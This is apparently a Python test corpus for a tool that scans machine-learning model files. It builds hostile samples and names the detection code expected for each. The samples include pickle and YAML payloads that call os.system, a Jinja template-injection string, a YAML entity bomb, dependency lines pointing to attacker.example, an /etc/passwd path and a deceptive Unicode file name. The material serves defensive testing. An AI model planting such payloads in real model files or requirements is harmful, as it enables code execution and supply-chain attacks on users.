"""Tensors, documents and names that are not what they should be."""

import io
import json
import os
import struct

import numpy as np
import safetensors.numpy

from anfl.inspection.codes import Code
from tests.unit.inspection.corpus.archives import zipped
from tests.unit.inspection.corpus.case import Case, case
from tests.unit.inspection.corpus.pickles import CALL, SYSTEM, Reduced, reduced

_ATTACK = reduced(os.system, "true")
_TENSORS = safetensors.numpy.save({"a": np.arange(6, dtype=np.float32)})
_LAUGHS = "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 9)
)
_MLMODEL = "flavors:\n  python_function:\n    loader_module: {loader}\n    {more}\n"


def array(values: "np.ndarray[tuple[int, ...], np.dtype[np.generic]]", *, allow_pickle: bool = False) -> bytes:
    target = io.BytesIO()
    np.save(target, values, allow_pickle=allow_pickle)
    return target.getvalue()


def tensors(header: object, data: bytes = b"") -> bytes:
    """A safetensors file with any header."""
    encoded = header.encode() if isinstance(header, str) else json.dumps(header).encode()
    return struct.pack("<Q", len(encoded)) + encoded + data


def tensor(start: int, end: int, *, dtype: str = "F32", shape: tuple[int, ...] = (1,)) -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}


def skops(module: str, name: str, *, loader: str = "ObjectNode", content: object = None) -> bytes:
    """What skops would import that name for."""
    node = {"__module__": module, "__class__": name, "__loader__": loader, "__id__": 1, "content": content}
    schema = {"__module__": "builtins", "__class__": "list", "__loader__": "ListNode", "content": [node]}
    return zipped(("schema.json", json.dumps(schema | {"protocol": 2, "_skops_version": "0.16.0"}).encode()))


def written_pickle(*lines: str) -> bytes:
    """Lines in a language with comments behind ``#``, whose bytes are a pickle too: texts of 126 bytes, and an end."""
    content = b"U~: 1\n"
    for line in lines:
        content = _filled(content, room=len(line) + 1) + line.encode() + b"\n"
    return _filled(content, room=128)[:-3] + b"."


def _filled(content: bytes, *, room: int) -> bytes:
    """``content``; where less than ``room`` bytes are left of the text that it ends in, up to the next one."""
    left = -len(content) % 128
    return content if room < left else content + b"#".ljust(left, b"x") + b"U~\n"


def tar_of(content: bytes) -> bytes:
    """A JSON document that is a tar archive as well: the header stands in its first text."""
    header = b'{"x": "' + b"x" * 93 + b" " * 24 + b"%011o " % len(content) + b" " * 20 + b"0" + b" " * 188 + b"x" * 167
    header = header[:148] + b"%06o  " % sum(header) + header[156:]
    return header + content.ljust(512)


def with_hdf5(content: bytes) -> bytes:
    """With the signature of HDF5 where its readers look for one that has other data before it."""
    return content[:1024] + b"\x89HDF\r\n\x1a\n" + content[1032:]


_ARRAY = array(np.arange(100))

CASES: list[Case] = [
    # safetensors
    case("header-bomb.safetensors", struct.pack("<Q", 1 << 40) + b"{}", Code.OVERSIZE_HEADER),
    case("header-100mb.safetensors", struct.pack("<Q", 100_000_001) + b"{" + b" " * 64, Code.OVERSIZE_HEADER),
    case("header-beyond.safetensors", struct.pack("<Q", 5000) + b"{}", Code.TRUNCATED),
    case("cut.safetensors", _TENSORS[:-4], Code.TRUNCATED),
    case("cut-length.safetensors", b"\x08\0\0\xff", Code.TRUNCATED),
    case("trailing.safetensors", _TENSORS + b"trailing", Code.TRAILING_DATA),
    case("no-json.safetensors", tensors("{nothing}"), Code.MALFORMED),
    case("overlap.safetensors", tensors({"a": tensor(0, 4), "b": tensor(2, 6)}, bytes(6)), Code.MALFORMED),
    case("hole.safetensors", tensors({"a": tensor(0, 4), "b": tensor(8, 12)}, bytes(12)), Code.MALFORMED),
    case("wrong-size.safetensors", tensors({"a": tensor(0, 4, shape=(9,))}, bytes(4)), Code.MALFORMED),
    case("overflow.safetensors", tensors({"a": tensor(0, 4, shape=(2**63, 2**63))}, bytes(4)), Code.MALFORMED),
    case(
        "twice.safetensors",
        tensors(f'{{"a": {json.dumps(tensor(0, 4))}, "a": {json.dumps(tensor(0, 4))}}}', bytes(4)),
        Code.MALFORMED,
    ),
    case("and-zip.safetensors", _TENSORS + zipped(("x.txt", b"x")), Code.POLYGLOT, Code.TRAILING_DATA),
    case("pickle.safetensors", _ATTACK, Code.DANGEROUS_GLOBAL, Code.MISLEADING_EXTENSION),
    # npy
    case("objects.npy", array(np.array([Reduced(os.system, "true")]), allow_pickle=True), Code.DANGEROUS_GLOBAL),
    case("header.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", 1 << 30) + b"{", Code.OVERSIZE_HEADER),
    case("header-deep.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 60_000) + b"[" * 60_000, Code.MALFORMED),
    case("header-code.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 20) + b"__import__('os')    ", Code.MALFORMED),
    case("version.npy", b"\x93NUMPY\x09\x00" + bytes(16), Code.MALFORMED),
    case("cut.npy", _ARRAY[:-1], Code.TRUNCATED),
    case("cut-header.npy", _ARRAY[:40], Code.TRUNCATED),
    case("trailing.npy", _ARRAY + b"x", Code.TRAILING_DATA),
    case("huge.npy", _ARRAY.replace(b"(100,)", b"(9**9)"), Code.MALFORMED),
    case("negative.npy", _ARRAY.replace(b"(100,)", b"(-10,)"), Code.MALFORMED),
    case("pickle.npy", _ATTACK, Code.DANGEROUS_GLOBAL, Code.MISLEADING_EXTENSION),
    case("and-zip.npy", _ARRAY + zipped(("x.txt", b"x")), Code.POLYGLOT, Code.TRAILING_DATA),
    case(
        "objects.npz",
        zipped(("a.npy", array(np.array([Reduced(os.system, "true")]), allow_pickle=True))),
        Code.DANGEROUS_GLOBAL,
    ),
    case("pickle.npz", zipped(("a.npy", _ATTACK)), Code.DANGEROUS_GLOBAL, Code.MISLEADING_EXTENSION),
    # Documents
    case("apply.yaml", b"a: !!python/object/apply:os.system ['true']\n", Code.DANGEROUS_TAG),
    case("new.yml", b"!!python/object/new:os.system [true]\n", Code.DANGEROUS_TAG),
    case("name.yaml", b"a: !!python/name:os.system\n", Code.DANGEROUS_TAG),
    case("module.yaml", b"a: !!python/module:os\n", Code.DANGEROUS_TAG),
    case(
        "handle.yaml",
        b"%TAG !p! tag:yaml.org,2002:python/object/\n---\na: !p!apply:os.system ['true']\n",
        Code.DANGEROUS_TAG,
    ),
    case("verbatim.yaml", b"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n", Code.DANGEROUS_TAG),
    case("second-document.yaml", b"a: 1\n---\n!!python/object/apply:os.system ['true']\n", Code.DANGEROUS_TAG),
    case("tuple.yaml", b"a: !!python/tuple [1]\n", Code.UNLISTED_TAG),
    case("own-tag.yaml", b"a: !attack 1\n", Code.UNLISTED_TAG),
    case("laughs.yaml", _LAUGHS.encode(), Code.ARCHIVE_BOMB),
    case("broken.yaml", b"a: [1\n", Code.MALFORMED),
    case("broken.json", b"{'a': 1}", Code.MALFORMED),
    case("target.yaml", b"model:\n  \"\\x5ftarget_\": posix.system\n  command: 'true'\n", Code.CUSTOM_CODE),
    *(
        case(f"policy-{number}.zip", zipped(("data", content), ("policy.pth", b"\x80\x04}.")), Code.CUSTOM_CODE)
        for number, content in enumerate(
            (
                b'{"policy_class": {":type:": "abc", "\\u003aserialized:": "gASVIQ=="}}',
                b' \n{"n": 1, "n": {":serialized:": "gASVIQ=="}}',
                '\ufeff{"n": {":serialized:": "gASVIQ=="}}'.encode(),
            )
        )
    ),
    case("cut.json", b'{"a": [1, 2', Code.TRUNCATED),
    case("deep.json", b"[" * 100_000 + b"]" * 100_000, Code.TOO_COMPLEX),
    case("auto-map/config.json", b'{"auto_map": {"AutoModel": "modeling.Evil"}}', Code.CUSTOM_CODE),
    case("lambda/config.json", b'{"config": {"layers": [{"class_name": "Lambda"}]}}', Code.CUSTOM_CODE),
    *(
        case(f"keras-{number}/config.json", json.dumps({"config": {"layers": [layer]}}).encode(), Code.CUSTOM_CODE)
        for number, layer in enumerate(
            (
                {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"},
                {"module": "keras.utils", "class_name": "function", "config": "get_file"},
                {"module": "attacker", "class_name": "Layer", "config": {}},
                {
                    "module": "keras.layers",
                    "class_name": "Dense",
                    "config": {"activation": {"class_name": "__lambda__"}},
                },
                {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {}},
                {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "https://attacker.example"}},
                {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
            )
        )
    ),
    case("function.skops", skops("os", "system", loader="FunctionNode"), Code.DANGEROUS_GLOBAL),
    case(
        "function-behind-a-class.skops",
        skops(
            "sklearn.tree",
            "DecisionTreeClassifier",
            loader="FunctionNode",
            content={"module_path": "os", "function": "system"},
        ),
        Code.DANGEROUS_GLOBAL,
    ),
    case("like-torch.npz", zipped(("x/data.pkl", b"N."), ("x/data/0", SYSTEM + CALL)), Code.DANGEROUS_GLOBAL),
    case("operator.skops", skops("sklearn.tree", "methodcaller", loader="OperatorFuncNode"), Code.DANGEROUS_GLOBAL),
    case("method.skops", skops("builtins", "list", loader="MethodNode", content={"func": "x"}), Code.CUSTOM_CODE),
    case("pipelines/config.json", b'{"custom_pipelines": {"x": {"impl": "attacker/repo--run.Run"}}}', Code.CUSTOM_CODE),
    case("sentences/modules.json", b'[{"idx": 0, "path": "", "type": "torch.hub"}]', Code.CUSTOM_CODE),
    *(
        case(f"sentences-{number}/{name}", content, Code.CUSTOM_CODE)
        for number, (name, content) in enumerate(
            (
                ("config.json", b'{"in_features": 4, "activation_function": "os.abort"}'),
                ("config.json", b'{"sentence_transformers": {"activation_fn": "os.abort"}}'),
                ("wordembedding_config.json", b'{"tokenizer_class": "torch.hub"}'),
                ("router_config.json", b'{"types": {"0": "torch.hub"}, "structure": {"query": ["0"]}}'),
                ("config.json", b'{"types": {"query-0": "torch.hub"}, "structure": {}}'),
            )
        )
    ),
    case(
        "gluonts/parameters.json",
        b'{"n": [{"__kind__": "instance", "class": "os.system", "args": ["true"]}]}',
        Code.CUSTOM_CODE,
    ),
    case("jsonpickle.json", b'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}', Code.CUSTOM_CODE),
    case("diffusion/model_index.json", b'{"_class_name": "P", "unet": ["attacker", "Run"]}', Code.CUSTOM_CODE),
    case("diffusion-class/model_index.json", b'{"_class_name": ["pipeline", "Run"]}', Code.CUSTOM_CODE),
    *(
        case(f"kernel-{number}/config.json", content, Code.CUSTOM_CODE)
        for number, content in enumerate(
            (
                b'{"model_type": "llama", "attn_implementation": "attacker/kernel"}',
                b'{"text_config": {"_attn_implementation": "attacker/kernel:run"}}',
                b'{"attn_implementation": {"text_config": "attacker/kernel"}}',
            )
        )
    ),
    case(
        "peft/adapter_config.json",
        b'{"peft_type": "LORA", "auto_mapping": {"base_model_class": "Run", "parent_library": "attacker"}}',
        Code.CUSTOM_CODE,
    ),
    case(
        "megatron/adapter_config.json", b'{"megatron_config": {"x": 1}, "megatron_core": "attacker"}', Code.CUSTOM_CODE
    ),
    case("unlisted.skops", skops("attacker", "Model"), Code.UNLISTED_GLOBAL),
    case("escape/m.safetensors.index.json", b'{"weight_map": {"a": "../../x.safetensors"}}', Code.PATH_ESCAPE),
    case("missing/m.safetensors.index.json", b'{"weight_map": {"a": "x.safetensors"}}', Code.MISSING_FILE),
    case("loader/MLmodel", _MLMODEL.format(loader="attacker", more="env: {}").encode(), Code.CUSTOM_CODE),
    case("code/MLmodel", _MLMODEL.format(loader="mlflow.sklearn", more="code: code").encode(), Code.CUSTOM_CODE),
    case("model-code/MLmodel", b"flavors: {langchain: {model_code_path: run.bin}}\n", Code.CUSTOM_CODE),
    case("keras-module/MLmodel", b"flavors: {keras: {keras_module: attacker}}\n", Code.CUSTOM_CODE),
    case("torch/pickle_module_info.txt", b"attacker.pickle\n", Code.CUSTOM_CODE),
    case("keras/keras_module.txt", b"attacker", Code.CUSTOM_CODE),
    case(
        "pickle/MLmodel",
        written_pickle("flavors:", "  python_function:", "    loader_module: attacker", "    code: code"),
        Code.MISLEADING_EXTENSION,
    ),
    case(
        "pickle-and-MLmodel.zip",
        zipped(("x/MLmodel", written_pickle("flavors: {python_function: {loader_module: attacker}}"))),
        Code.MISLEADING_EXTENSION,
    ),
    case("pickle/uv.lock", b"C = 1\nversion = 1 #".ljust(34, b"x") + b".", Code.MISLEADING_EXTENSION),
    case("pickle.py", b"V=__import__('os').system('true')\nV=2\n0.", Code.MISLEADING_EXTENSION),
    case("pickle.jinja", b"V{{ cycler.__init__.__globals__.os.system('true') }}\n.", Code.MISLEADING_EXTENSION),
    case(
        "policy-and-tar.zip",
        zipped(("data", tar_of(b'", "n": {":serialized:": "gASVIQ=="}}')), ("policy.pth", b"\x80\x04}.")),
        Code.POLYGLOT,
    ),
    case(
        "and-hdf5.h5",
        with_hdf5(b"\x80\x03B" + struct.pack("<I", 2000) + bytes(2000) + b"."),
        Code.UNSUPPORTED_FORMAT,
    ),
    case("and-hdf5.npy", with_hdf5(array(np.zeros(1000))), Code.UNSUPPORTED_FORMAT),
    case("pickle/saved_model.pb", b"\x80\x04}.", Code.UNSUPPORTED_FORMAT),
    case("text/saved_model.pbtxt", b"saved_model_schema_version: 1\n", Code.UNSUPPORTED_FORMAT),
    case("pickle.tflite", b"\x80\x04}.", Code.UNSUPPORTED_FORMAT),
    *(
        case(f"programs-{number}/MLmodel", content.encode(), Code.CUSTOM_CODE)
        for number, content in enumerate(
            (
                "flavors: {xgboost: {model_class: os.abort}}\n",
                "flavors: {lightgbm: {model_class: os.abort}}\n",
                *(f"flavors: {{{flavor}: {{x: y}}}}\n" for flavor in ("diviner", "h2o", "langchain", "spark")),
                *(_MLMODEL.format(loader=f"mlflow.{flavor}", more="") for flavor in ("diviner", "h2o", "spark")),
            )
        )
    ),
    case("flavor-code/MLmodel", b"flavors: {sklearn: {code: code}}\n", Code.CUSTOM_CODE),
    case(
        "reference/MLmodel",
        b"flavors: {transformers: {source_model_name: attacker/model, task: x}}\n",
        Code.SOURCE_NOT_INSPECTABLE,
    ),
    *(
        case(
            f"reference-{number}/MLmodel",
            f"flavors: {{transformers: {{pipeline_model_type: Run, {more}}}}}\n".encode(),
            Code.SOURCE_NOT_INSPECTABLE,
        )
        for number, more in enumerate(
            (
                "local_base_model_path: attacker/model",
                "model_binary: '.', source_model_name: attacker/model, source_model_revision: main",
            )
        )
    ),
    case(
        "missing/MLmodel",
        _MLMODEL.format(loader="mlflow.sklearn", more="model_path: m.pkl").encode(),
        Code.MISSING_FILE,
    ),
    case("escape/MLmodel", _MLMODEL.format(loader="mlflow.sklearn", more="data: ../../x").encode(), Code.PATH_ESCAPE),
    *(
        case(
            f"absolute-{number}/MLmodel",
            _MLMODEL.format(loader="mlflow.sklearn", more=more).encode(),
            Code.PATH_ESCAPE,
        )
        for number, more in enumerate(("model_path: /tmp/m.pkl", "env: {conda: /tmp/conda.yaml}", "data: C:/m.pkl"))
    ),
    case(
        "environment/MLmodel",
        _MLMODEL.format(loader="mlflow.sklearn", more="env: {virtualenv: other.yaml}").encode(),
        Code.FOREIGN_REQUIREMENT,
    ),
    *(
        case(f"requirements-{number}/requirements.txt", f"numpy==2.0\n{line}\n".encode(), Code.FOREIGN_REQUIREMENT)
        for number, line in enumerate(
            (
                "--index-url https://attacker.example/simple",
                "-i https://attacker.example/simple",
                "numpy --extra-index-url=https://attacker.example/simple",
                "--find-links=.",
                "-r other.txt",
                "-e .",
                "./package",
                "package.whl",
                "package.tar.gz",
                "package @ https://attacker.example/p.tar.gz",
                "package@git+https://attacker.example/p",
                "git+https://attacker.example/p#egg=p",
                "https://attacker.example/p.zip",
                "--index-\\\nurl https://attacker.example/simple",
                "numpy==1\u2028-i https://attacker.example/simple",
                "numpy ; python_version > '3'\x0c-e .",
                "${PACKAGE}",
            )
        )
    ),
    case(
        "encoded/requirements.txt",
        b"# coding: utf-7\nx==1+AAo---extra-index-url+AD0-https+ADoALwAv-attacker.example\n",
        Code.FOREIGN_REQUIREMENT,
    ),
    case("huge/requirements.txt", b"a\n" * 600_000, Code.TOO_LARGE),
    case("url/constraints.txt", b"numpy @ https://attacker.example/n.whl\n", Code.FOREIGN_REQUIREMENT),
    *(
        case(f"conda-{number}/conda.yaml", content.encode(), Code.FOREIGN_REQUIREMENT)
        for number, content in enumerate(
            (
                "channels: [https://attacker.example/c]\n",
                "channels: ['file:///tmp']\n",
                "dependencies: ['https://attacker.example/x.conda']\n",
                "dependencies: ['https://attacker.example/c::numpy']\n",
                "dependencies: [pip, {pip: ['-i https://attacker.example/s', numpy]}]\n",
                "dependencies: [pip, {pip: ['numpy @ https://attacker.example/n.zip']}]\n",
                "variables: {PIP_INDEX_URL: 'https://attacker.example/s'}\n",
            )
        )
    ),
    *(
        case(f"environment-{number}/python_env.yaml", content.encode(), Code.FOREIGN_REQUIREMENT)
        for number, content in enumerate(
            (
                "dependencies: ['-r requirements.txt', '-e .']\n",
                "build_dependencies: ['pip @ https://attacker.example/p.zip']\n",
                'dependencies: ["numpy\\n--find-links ."]\n',
                "python: ./python\n",
            )
        )
    ),
    case(
        "lock/uv.lock",
        b'[[package]]\nname = "x"\nsource = { registry = "https://attacker.example/simple" }\n',
        Code.FOREIGN_REQUIREMENT,
    ),
    case("tag/MLmodel", b"flavors: !!python/object/apply:os.system ['true']\n", Code.DANGEROUS_TAG),
    case("none/MLmodel", b"nothing: here\n", Code.MALFORMED),
    case("huge/MLmodel", b"flavors: {}\n#" + b"x" * 1_100_000, Code.OVERSIZE_HEADER),
    case("signature/MLmodel", b'flavors: {}\nsignature: {inputs: \'[{"type": "os"}]\'}\n', Code.MALFORMED),
    # What is empty and cannot be
    *(
        case(f"empty/{name}", b"", Code.TRUNCATED)
        for name in ("m.pkl", "m.joblib", "m.pt", "m.safetensors", "m.npy", "m.npz", "m.onnx", "m.json", "MLmodel")
    ),
    case("empty.zip", zipped(("m.pkl", b""), ("notes.txt", b"")), Code.TRUNCATED),
    # What it says on the outside
    case("notes.txt", SYSTEM + CALL, Code.DANGEROUS_GLOBAL, Code.MISLEADING_EXTENSION),
    case("config-is-pickle/config.json", _ATTACK, Code.DANGEROUS_GLOBAL, Code.MISLEADING_EXTENSION),
    case("zip.json", zipped(("x.txt", b"x")), Code.MISLEADING_EXTENSION),
    case("model.py", b"import os\n", Code.CUSTOM_CODE),
    case("run", b"#!/bin/sh\ntrue\n", Code.CUSTOM_CODE),
    case("library.so", b"\x7fELF" + bytes(60), Code.EXECUTABLE),
    case("program.exe", b"MZ" + bytes(60), Code.EXECUTABLE),
    case("program.txt", b"\x7fELF" + bytes(60), Code.EXECUTABLE, Code.MISLEADING_EXTENSION),
    case("noise", bytes(range(1, 256)), Code.UNKNOWN_FORMAT),
    case("model\u202eyp.txt", b"x", Code.DECEPTIVE_NAME),
]
